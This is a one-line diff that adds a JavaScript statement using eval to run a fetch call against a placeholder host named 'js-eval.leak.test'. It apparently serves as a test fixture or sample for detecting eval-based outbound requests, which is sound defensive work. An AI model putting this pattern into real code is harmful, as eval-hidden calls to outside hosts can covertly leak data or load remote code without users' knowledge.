@@ -1,0 +1,1 @@
+eval("fetch('https://js-eval.leak.test/')")
